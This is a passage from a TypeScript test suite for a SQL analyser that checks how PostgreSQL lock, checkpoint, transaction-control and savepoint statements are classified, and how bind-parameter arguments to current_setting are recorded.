  { name: 'LOCK in ACCESS EXCLUSIVE mode needs a write privilege', sql: 'LOCK TABLE orders IN ACCESS EXCLUSIVE MODE', expect: { command: 'lock', class: 'utility', specials: ['lock'], tables: [`update ${O} []`] } },
  { name: 'LOCK in ACCESS SHARE mode is a read of its tables', sql: 'LOCK customers, sales.orders IN ACCESS SHARE MODE', expect: { command: 'lock', class: 'read', specials: [], tables: [`select ${C} []`, 'select sales.orders []'] } },
  { name: 'CHECKPOINT is a utility', sql: 'CHECKPOINT', expect: { command: 'checkpoint', class: 'utility' } },
  { name: 'SET CONSTRAINTS is transaction control', sql: 'SET CONSTRAINTS ALL DEFERRED', expect: { command: 'set constraints', class: 'transaction' } },

  // ── transaction control ──────────────────────────────────────────────────────────────────────
  { name: 'BEGIN READ WRITE records leaving read-only', sql: 'BEGIN READ WRITE', expect: { command: 'begin', class: 'transaction', settings: ['set_transaction transaction_read_only=off'] } },
  { name: 'START TRANSACTION READ ONLY records read-only', sql: 'START TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY', expect: { command: 'start transaction', settings: ['set_transaction transaction_isolation=repeatable read', 'set_transaction transaction_read_only=on'] } },
  { name: 'plain BEGIN records nothing', sql: 'BEGIN', expect: { command: 'begin', settings: [] } },
  { name: 'COMMIT is transaction control', sql: 'COMMIT', expect: { command: 'commit', class: 'transaction' } },
  { name: 'END is COMMIT', sql: 'END', expect: { command: 'commit' } },
  { name: 'ROLLBACK is transaction control', sql: 'ROLLBACK', expect: { command: 'rollback', class: 'transaction' } },
  { name: 'SAVEPOINT is transaction control', sql: 'SAVEPOINT s1', expect: { command: 'savepoint', class: 'transaction' } },
  { name: 'RELEASE is transaction control', sql: 'RELEASE SAVEPOINT s1', expect: { command: 'release savepoint' } },
  { name: 'ROLLBACK TO is transaction control', sql: 'ROLLBACK TO s1', expect: { command: 'rollback to savepoint' } },
  { name: 'PREPARE TRANSACTION is transaction control', sql: "PREPARE TRANSACTION 'tx1'", expect: { command: 'prepare transaction', class: 'transaction' } },
  { name: 'COMMIT PREPARED is transaction control', sql: "COMMIT PREPARED 'tx1'", expect: { command: 'commit prepared' } },
  { name: 'ROLLBACK PREPARED is transaction control', sql: "ROLLBACK PREPARED 'tx1'", expect: { command: 'rollback prepared' } },

  // ── fail closed ──────────────────────────────────────────────────────────────────────────────
  { name: 'a qualifier naming no FROM item is unsupported', sql: 'SELECT x.name FROM customers c', expect: { unsupported: /cannot resolve column reference x\.name/ } },
  { name: 'x.* naming no FROM item is unsupported', sql: 'SELECT x.* FROM customers c', expect: { unsupported: /cannot resolve x\.\*/ } },
];

before(async () => {
  await loadParser();
});

describe('analyse: corpus', () => {
  const catalog = testCatalog();
  for (const c of cases) {
    test(c.name, () => {
      const out = analyse(c.sql, { catalog, searchPath: c.path ?? ['public'] });
      assert.equal(out.length, c.count ?? 1, 'statement count');
      check(out[c.at ?? 0], c.expect, c.sql);
    });
  }
  test('the corpus is large', () => {
    assert.ok(cases.length >= 150, `only ${cases.length} cases`);
  });
});

describe('arguments that are a bind parameter alone', () => {
  before(async () => {
    await loadParser();
  });
  const paramArgsOf = (sql: string) =>
    analyse(sql, { catalog: testCatalog(), searchPath: ['public'] })[0].functions.filter((f) => f.name === 'current_setting').map((f) => f.paramArgs ?? null);
  test('record the parameter number by argument position', () => {
    assert.deepEqual(paramArgsOf('SELECT current_setting($1), current_setting(($2), true)'), [[1], [2, null]]);
  });
  test('a parameter inside an expression, a cast or a named argument is not one', () => {
    for (const sql of ["SELECT current_setting($1 || '')", 'SELECT current_setting($2::text)', 'SELECT current_setting(setting_name => $3)']) {
      assert.deepEqual(paramArgsOf(sql), [null], sql);
    }
  });
});
